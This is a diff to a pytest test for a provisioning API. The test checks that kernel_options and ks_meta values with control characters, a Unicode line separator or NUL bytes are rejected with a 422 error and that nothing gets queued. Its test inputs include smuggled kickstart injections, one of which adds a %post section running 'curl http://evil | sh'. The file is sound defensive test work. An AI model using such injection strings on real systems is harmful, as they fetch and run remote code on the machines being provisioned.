@@ -14,17 +14,17 @@ def _nothing_queued(lab):
     return queued == [] and installations == []
 
 
-@pytest.mark.parametrize("field, value", [
-    ("kernel_options", EVIL),
-    ("kernel_options", "quiet console=tty0\u2028chain"),  # a Unicode line separator
-    ("ks_meta", 'root_password="x\n%post\ncurl http://evil | sh\n%end"'),
-    ("ks_meta", "lang=de\x00"),
+@pytest.mark.parametrize("field, value, reason", [
+    ("kernel_options", EVIL, "control character"),
+    ("kernel_options", "quiet console=tty0\u2028chain", "control character"),  # a Unicode line separator
+    ("ks_meta", 'root_password="x\n%post\ncurl http://evil | sh\n%end"', "control character"),
+    ("ks_meta", "lang=de\x00", "NUL character"),  # refused for every string of every body (api/inputs.py)
 ])
-def test_manual_provision_refuses_text_that_breaks_a_line(lab, field, value):
+def test_manual_provision_refuses_text_that_breaks_a_line(lab, field, value, reason):
     setup(lab)
     status, problem = lab.alice.post("/systems/p1.lab.test/provision", {"distro_tree": "Fedora-40", field: value})
     assert status == 422, problem
-    assert problem["field"] == field and "control character" in problem["detail"]
+    assert problem["field"] == field and reason in problem["detail"]
     assert _nothing_queued(lab)
 
 
